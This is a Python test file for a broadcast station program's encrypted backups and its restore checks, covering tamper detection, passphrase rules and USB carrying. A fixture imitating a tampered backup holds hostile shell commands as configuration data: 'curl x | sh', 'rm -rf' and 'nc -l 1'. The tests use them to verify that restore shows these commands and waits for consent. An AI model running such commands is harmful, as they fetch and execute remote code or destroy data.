"""Backups that leave the machine: under a passphrase that opens them elsewhere, whole or not at all; what they run is shown."""

from __future__ import annotations

import base64
import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from broadcaster.clock import FrozenClock
from broadcaster.domain.people.roles import machine
from broadcaster.errors import ForbiddenError, RuleError
from broadcaster.services.scripts.approving import airable
from broadcaster.services.setup import age, carrying, what_runs
from broadcaster.services.setup.backup import backup
from broadcaster.services.setup.founding import init
from broadcaster.services.setup.restoring import restore
from broadcaster.services.station import Station, open_station
from broadcaster.settings import load
from broadcaster.sound.store import Store, digest
from tests.kit.people import EDITOR
from tests.kit.scripts import approved

ANYBODY = machine("thử")
WORDS = "năm từ không liên quan gì"
MADE_BY_ANOTHER_PROGRAM = base64.b64decode(
    "YWdlLWVuY3J5cHRpb24ub3JnL3YxCi0+IHNjcnlwdCBhT04zUVJnZ3dNVjB3ODlBTHBmdHZnIDE4CkpBRis0RlZGRkxtVlNwdDh0TmVLMENVOENv"
    "QzRPWEN5Y3lkZk9GZHVVTVkKLS0tIHF4TXFHVkpsZnRZelVTMGhPSFlpUlJvWDFQcENxQi9EY21LWGROSks0eDQKtG991tIBaHObHpUMHl9IVCQi"
    "fMxoCGIkhnpFBQDXYi7bKhm7iI8atfFpGTH4"
)
"""By pyrage 1.4.0, which is the reference's Rust twin; the other way round was tried by hand."""
CHUNK = 65536


@pytest.fixture(scope="module", autouse=True)
def _light_work() -> Iterator[None]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(age, "WORK", 10)
        yield


def sealed(data: bytes, words: str = WORDS) -> bytes:
    return b"".join(age.sealed(io.BytesIO(data), words))


def sealed_head() -> int:
    """How long the head of a file of these tests is."""
    return len(b"age-encryption.org/v1\n-> scrypt  10\n\n--- \n") + 22 + 43 + 43


def unsealed(data: bytes, words: str = WORDS) -> bytes:
    return b"".join(age.unsealed(io.BytesIO(data), words))


def test_a_file_that_another_program_of_the_format_made_is_opened() -> None:
    assert unsealed(MADE_BY_ANOTHER_PROGRAM, "một cụm mật khẩu").decode() == "Loa xã nói."


@given(st.integers(0, 3 * CHUNK), st.integers(0, 4 * CHUNK), st.integers(1, 255))
@example(0, 0, 1)
@example(CHUNK, 10, 1)
@example(2 * CHUNK, 2 * CHUNK, 128)
@example(0, sealed_head() - 2, 1)  # the last letter of the head has two bits to spare
def test_what_was_sealed_opens_and_one_changed_or_missing_byte_never_passes(size: int, place: int, flip: int) -> None:
    data = bytes(range(256)) * (size // 256 + 1)
    data, whole = data[:size], sealed(data[:size])
    assert unsealed(whole) == data
    place %= len(whole)
    changed = whole[:place] + bytes([whole[place] ^ flip]) + whole[place + 1 :]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(age, "_MOST_WORK", 12)  # a changed cost shall not cost a gigabyte here
        for bad in (changed, whole[:place], whole + b"x"):
            with pytest.raises((age.DamagedError, age.PassphraseError)):
                unsealed(bad)


def test_chunks_that_were_moved_or_left_out_do_not_pass() -> None:
    whole = sealed(bytes(3 * CHUNK))
    head, size = len(whole) - 3 * (CHUNK + 16), CHUNK + 16
    first, second, last = (whole[head + i * size : head + (i + 1) * size] for i in range(3))
    for order in ((second, first, last), (first, last), (first, second), (first, second, last, last)):
        with pytest.raises(age.DamagedError):
            unsealed(whole[:head] + b"".join(order))
    with pytest.raises(age.PassphraseError):
        unsealed(whole, "một cụm khác hẳn thế")
    costly = whole.replace(b" 10\n", b" 30\n", 1)
    with pytest.raises(age.DamagedError):  # and not a terabyte of memory
        unsealed(costly)


@pytest.mark.parametrize(
    ("words", "again", "field"),
    [("ngắn", "ngắn", "passphrase"), ("a" * 40, "a" * 40, "passphrase"), (WORDS, "x", "again")],
)
def test_a_passphrase_is_long_and_typed_alike_twice(words: str, again: str, field: str) -> None:
    with pytest.raises(RuleError) as refused:
        carrying.good(words, again)
    assert refused.value.field == (field,)


@pytest.fixture
def station(tmp_path: Path, clock: FrozenClock) -> Iterator[Station]:
    made = init(tmp_path / "home", overrides={"speech": {"voices": ["tone:beep"]}}, clock=clock)
    yield made
    made.close()


@pytest.mark.medium
def test_a_backup_carried_on_a_stick_is_a_station_that_speaks_elsewhere(
    station: Station, tmp_path: Path, clock: FrozenClock
) -> None:
    number = approved(station)
    stick = tmp_path / "usb"
    stick.mkdir()
    name = backup(station, whole=True).name
    with pytest.raises(ForbiddenError):
        carrying.carry(station, EDITOR, name, stick, WORDS)
    target = carrying.carry(station, ANYBODY, name, stick, WORDS)
    assert [p.name for p in stick.iterdir()] == [f"{name}.age"]
    assert b"station.db" not in target.read_bytes()
    elsewhere = tmp_path / "khac" / "đài"
    whole, hurt = target.read_bytes(), stick / "hurt.age"
    hurt.write_bytes(whole[:-5])
    for archive, words in ((target, "một cụm khác hẳn thế"), (target, ""), (hurt, WORDS)):
        with pytest.raises((age.PassphraseError, age.DamagedError)):
            restore(archive, elsewhere, clock=clock, passphrase=words)
        assert not elsewhere.parent.exists()
        assert not [p for p in tmp_path.iterdir() if p.name.startswith(".loa-")], "nothing in clear is left"
    made = restore(target, elsewhere, clock=clock, passphrase=f" {WORDS} ")
    assert (made.lacks, made.gone, made.silent) == ((), 0, ())
    assert not [p for p in (*tmp_path.iterdir(), *elsewhere.parent.iterdir()) if p.name.startswith(".loa-")]
    again = open_station(elsewhere, clock=clock)
    with again.db.read() as session:
        (candidate,) = airable(session)
    assert candidate.script_id == number
    assert digest(Store(again.home.store).path(candidate.audio_sha256)) == candidate.audio_sha256
    again.close()


def test_where_there_is_no_stick_nothing_is_written(station: Station, tmp_path: Path) -> None:
    with pytest.raises(RuleError):
        carrying.carry(station, ANYBODY, backup(station).name, tmp_path / "không cắm", WORDS)


HOSTILE = """
[playout.sinks.cot]
kind = "pipe"
options = {command = ["sh", "-c", "curl x | sh"], hear = ["arecord"]}

[playout.sinks.nhom]
kind = "fan_out"
options = {sinks = ["main"]}

[playout.sinks.mang]
kind = "icecast"
options = {host = "a.example", password = "bi-mat-lam"}

[playout.sinks.la]
kind = "cua-nguoi-la"
options = {run = "rm -rf"}

[speech.engines.piper]
binary = "/tmp/piper"

[relay.sources.vov]
title = "VOV"
capture = ["sh", "-c", "nc -l 1"]
windows = ["05:00-05:30"]
"""


@pytest.fixture
def hostile(station: Station, tmp_path: Path) -> Path:
    """A backup into which somebody has put what it runs."""
    made = backup(station)
    changed = tmp_path / "lạ.zip"
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(changed, "w") as to:
        for name in source.namelist():
            to.writestr(name, HOSTILE if name == "station.toml" else source.read(name))
        to.writestr("web/templates/page.html", "{{ 1 }}")
    return changed


def test_what_a_backup_would_run_is_told_line_by_line_and_its_secrets_are_not(hostile: Path, tmp_path: Path) -> None:
    file = tmp_path / "s.toml"
    file.write_text(HOSTILE, encoding="utf-8")
    lines = what_runs.told(load(file), ["web/templates/page.html", "reports/a.docx"])
    assert lines == [
        "Đường ra “cot” (pipe), command: sh -c 'curl x | sh'",
        "Đường ra “cot” (pipe), hear: arecord",
        "Đường ra “la” (cua-nguoi-la), run: rm -rf",
        "Bộ đọc “piper”, binary: /tmp/piper",
        "Tiếp âm “vov”: sh -c 'nc -l 1'",
        "Mẫu trang riêng: web/templates/page.html",
    ]
    assert hostile.is_file()


def test_nothing_is_brought_back_before_somebody_saw_what_it_runs(
    hostile: Path, tmp_path: Path, clock: FrozenClock
) -> None:
    target = tmp_path / "mới"
    with pytest.raises(RuleError) as refused:
        restore(hostile, target, clock=clock)
    assert refused.value.code == "runs"
    assert not target.exists()
    seen: list[str] = []
    restore(hostile, target, clock=clock, agree=seen.extend)
    assert len(seen) == 6


def test_a_folder_that_takes_nothing_is_told_before_anything_is_asked_and_with_what_to_type(
    station: Station, tmp_path: Path
) -> None:
    (tmp_path / "tep").write_text("x", encoding="utf-8")
    for wrong, words in ((tmp_path / "khong-co", "USB"), (tmp_path / "tep", "không phải thư mục")):
        with pytest.raises(RuleError, match=words):
            carrying.require_takes(wrong)


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="only root is another account for a moment")
def test_an_account_that_may_not_write_where_it_is_told_hears_its_own_name(tmp_path: Path) -> None:
    closed = tmp_path / "cua-root"
    closed.mkdir(mode=0o700)
    tmp_path.chmod(0o755)
    asking = "from pathlib import Path; from broadcaster.services.setup.carrying import require_takes, account; "
    asking += f"print(account()); require_takes(Path({str(closed)!r}))"
    said = subprocess.run(
        ["setpriv", "--reuid=65534", "--clear-groups", sys.executable, "-c", asking],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    if "ModuleNotFoundError" in said.stderr or "Permission denied: '/" in said.stderr.partition("RuleError")[0]:
        pytest.skip("the other account does not reach the program here")
    assert said.returncode, said.stdout
    assert f"Tài khoản {said.stdout.strip()} (tài khoản chạy đài) không ghi được" in said.stderr
    assert "sudo install -d -o" in said.stderr
